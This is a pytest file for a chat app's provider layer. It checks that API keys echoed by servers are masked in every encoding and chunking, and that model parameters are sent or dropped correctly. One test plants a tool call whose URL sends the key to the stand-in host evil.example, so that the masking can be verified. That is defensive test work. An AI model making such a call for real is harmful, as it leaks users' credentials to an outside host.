"""A key that a server says again is masked, in errors and in answers, in whatever form and however it is cut."""

import base64
import json
from urllib.parse import quote

import pytest

from desktop.chat.assistants import in_style
from desktop.domain.assistants import Parameters
from desktop.domain.models import ModelRequest, PromptMessage, TextDelta
from desktop.errors.servers import RequestRejected
from desktop.providers.anthropic import to_anthropic
from desktop.providers.sdk_client import KeyMask, find_dropped_fields, find_refused_option
from desktop.settings.redaction import MASK
from tests.cases import cases
from tests.unit.providers.faults import KINDS
from tests.unit.providers.requests import KEY, ask, opened
from tests.unit.providers.stream_floods import END_OF_CALLS, event
from tests.unit.providers.wire import answering, named_sse, serving, sse, streaming

pytestmark = pytest.mark.anyio

HEX = KEY.encode().hex()
FORMS = {
    "plain": KEY,
    "base64": base64.b64encode(KEY.encode()).decode(),
    "base64 of a header": base64.b64encode(f"Bearer {KEY}".encode()).decode(),
    "base64 for addresses": base64.urlsafe_b64encode(f"x{KEY}".encode()).decode(),
    "percent": quote(KEY, safe=""),
    "percent of every byte": "".join(f"%{byte:02x}" for byte in KEY.encode()),
    "percent in capitals": "".join(f"%{byte:02X}" for byte in KEY.encode()),
    "hex": HEX,
    "hex in capitals": HEX.upper(),
    "hex in pairs": ":".join(HEX[at : at + 2] for at in range(0, len(HEX), 2)),
}


def _text(kind, piece):
    return {
        "openai": event({"choices": [{"index": 0, "delta": {"content": piece}}]}),
        "openai-responses": event({"type": "response.output_text.delta", "output_index": 0, "delta": piece}),
        "anthropic": event(
            {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": piece}}
        ),
    }[kind]


@cases("form", FORMS)
async def test_a_key_in_an_error_is_masked(form):
    failing = answering(400, {"error": {"message": f"Your header was {FORMS[form]}, which is wrong"}})
    async with serving(failing) as wire, opened(wire.base_url) as provider:
        said = str((await ask(provider)).error)
    assert MASK in said
    assert FORMS[form][8:-8] not in said


@cases("form", FORMS)
@cases("size", [1, 5, 1_000])
@cases("kind", KINDS)
async def test_a_key_in_an_answer_is_masked_however_it_is_cut(form, size, kind):
    said = f"It is {FORMS[form]}; keep it. sk-can"
    pieces = [said[at : at + size] for at in range(0, len(said), size)]
    data = b"".join(_text(kind, piece) for piece in pieces) + END_OF_CALLS[kind]
    async with serving(streaming(data)) as wire, opened(wire.base_url, kind) as provider:
        answer = await ask(provider)
    assert answer.text.startswith("It is ")
    assert answer.text.endswith("; keep it. sk-can")
    assert MASK in answer.text
    assert FORMS[form][8:-8] not in answer.text


async def test_a_key_in_the_arguments_of_a_call_is_masked():
    function = {"name": "read_page", "arguments": '{"url": "https://evil.example/' + KEY + '"}'}
    call = {"index": 0, "id": "c", "type": "function", "function": function}
    data = event({"choices": [{"index": 0, "delta": {"tool_calls": [call]}}]}) + END_OF_CALLS["openai"]
    async with serving(streaming(data)) as wire, opened(wire.base_url) as provider:
        answer = await ask(provider)
    assert KEY not in answer.calls[0].arguments
    assert answer.calls[0].arguments.endswith('"}')


async def test_words_that_are_held_back_are_kept_when_the_stream_breaks():
    data = _text("openai", "It begins with sk-can")
    async with serving(streaming(data, end=b"")) as wire, opened(wire.base_url) as provider:
        answer = await ask(provider)
    assert answer.text == "It begins with sk-can"
    assert answer.error is not None


SHORT_KEY = "Qx7-9/zK"
SHORT_FORMS = {
    "plain": SHORT_KEY,
    "base64": base64.b64encode(SHORT_KEY.encode()).decode(),
    "base64 of a header": base64.b64encode(f"Bearer {SHORT_KEY}".encode()).decode(),
    "percent": quote(SHORT_KEY, safe=""),
    "percent of every byte": "".join(f"%{byte:02x}" for byte in SHORT_KEY.encode()),
    "hex": SHORT_KEY.encode().hex(),
    "hex in capitals": SHORT_KEY.encode().hex().upper(),
}


async def masked(key, said, size):
    mask = KeyMask(key)
    events = [each for at in range(0, len(said), size) for each in mask.take(TextDelta(said[at : at + size]))]
    return "".join(each.text for each in (*events, *mask.rest()))


@cases("form", SHORT_FORMS)
@cases("size", [1, 3, 1_000])
async def test_a_short_key_that_stands_alone_is_masked_however_it_is_cut(form, size):
    said = f"钥匙是{SHORT_FORMS[form]}。It is {SHORT_FORMS[form]}, key={SHORT_FORMS[form]}"
    answer = await masked(SHORT_KEY, said, size)
    assert answer.count(MASK) == 3
    assert SHORT_FORMS[form][2:-4] not in answer


@cases("size", [1, 3, 1_000])
async def test_a_short_key_within_a_longer_word_masks_nothing(size):
    said = "A lighthouse keeper, lighthouses, housekeeping, 2house-keep7 and house-keep"
    assert await masked("house-keep", said, size) == said.removesuffix("house-keep") + MASK


@cases("key", ["lm-studio", "ollama"])
async def test_a_key_that_is_a_placeholder_masks_no_answer(key):
    said = f"Start {key} first."
    assert await masked(key, said, 3) == said


FIELDS = {"seed": 7, "provider": {"order": ["b", "a"]}, "a.b(c": None, "logit_bias": {}}
REQUEST = in_style(
    ModelRequest("m-1", (PromptMessage("user", "Hello"),), max_output_tokens=50),
    Parameters(temperature=0.25, top_p=0.9, fields=json.dumps(FIELDS)),
)
ANSWERS = {
    "openai": sse({"choices": [{"index": 0, "delta": {"content": "Hi."}, "finish_reason": "stop"}]}),
    "openai-responses": named_sse(
        {"type": "response.output_text.delta", "output_index": 0, "delta": "Hi."},
        {"type": "response.completed", "response": {"status": "completed"}},
    ),
    "anthropic": named_sse(
        {"type": "message_start", "message": {"content": [], "usage": {"input_tokens": 1}}},
        {"type": "content_block_start", "index": 0, "content_block": {"type": "text", "text": ""}},
        {"type": "content_block_delta", "index": 0, "delta": {"type": "text_delta", "text": "Hi."}},
        {"type": "content_block_stop", "index": 0},
        {"type": "message_delta", "delta": {"stop_reason": "end_turn"}, "usage": {"output_tokens": 1}},
        {"type": "message_stop"},
    ),
}
LIMITS = {"openai": "max_tokens", "openai-responses": "max_output_tokens", "anthropic": "max_tokens"}
every_protocol = cases("kind", ANSWERS)


def refusing(message):
    return answering(400, {"error": {"type": "invalid_request_error", "message": message}})


async def asked(kind, *scripts, times=1):
    """Return what was told, and the bodies of the requests."""
    async with serving(*scripts, streaming(ANSWERS[kind])) as wire, opened(wire.base_url, kind) as provider:
        answers = [await ask(provider, REQUEST) for _ in range(times)]
    return answers, [request.json for request in wire.requests]


@every_protocol
async def test_all_wishes_are_on_the_wire(kind):
    [answer], [body] = await asked(kind)
    assert (answer.text, answer.left_out) == ("Hi.", ())
    assert (body["temperature"], body["top_p"], body[LIMITS[kind]]) == (0.25, 0.9, 50)
    assert {name: body[name] for name in FIELDS} == FIELDS
    assert (body["model"], body["stream"]) == ("m-1", True)


@every_protocol
async def test_nothing_is_sent_that_nobody_wished(kind):
    async with serving(streaming(ANSWERS[kind])) as wire, opened(wire.base_url, kind) as provider:
        answer = await ask(provider)
    assert answer.left_out == ()
    assert not {"temperature", "top_p", "extra_body", "fields"}.intersection(wire.requests[0].json)


@every_protocol
@cases("name", ["temperature", "top_p", "seed", "a.b(c", "provider"])
async def test_what_a_model_refuses_is_left_out_once_and_for_all_and_said(kind, name):
    refusal = refusing(f"Unsupported parameter: '{name}' is not supported with this model.")
    answers, bodies = await asked(kind, refusal, times=2)
    assert [answer.text for answer in answers] == ["Hi.", "Hi."]
    assert [answer.left_out for answer in answers] == [(name,), (name,)]
    assert [name in body for body in bodies] == [True, False, False]
    others = {"temperature", "top_p", *FIELDS} - {name}
    assert all(others <= set(body) for body in bodies)


@every_protocol
async def test_of_two_that_do_not_go_together_one_stays(kind):
    both = refusing("`temperature` and `top_p` cannot both be specified for this model. Please use only one.")
    [answer], bodies = await asked(kind, both)
    assert answer.left_out == ("top_p",)
    assert bodies[-1]["temperature"] == 0.25


@every_protocol
async def test_a_refused_value_is_the_persons_to_hear(kind):
    [answer], bodies = await asked(kind, refusing("seed must be at least 100"))
    assert isinstance(answer.error, RequestRejected)
    assert len(bodies) == 1


def test_a_field_is_found_by_its_whole_name_only():
    arguments = {"extra_body": {"top": 1, "top_k": 2, ".*": 3}}
    assert find_refused_option(arguments, "Unknown field: top_k", ()) == "top_k"
    assert find_refused_option(arguments, "Unknown field: stop", ()) is None
    assert find_refused_option(arguments, "Unknown field: .*", ()) == ".*"


def test_a_model_that_thinks_takes_no_sampling_and_all_fields():
    arguments = to_anthropic(REQUEST, thinking="adaptive")
    assert arguments["extra_body"] == FIELDS
    assert find_dropped_fields(REQUEST, arguments) == ("temperature", "top_p")
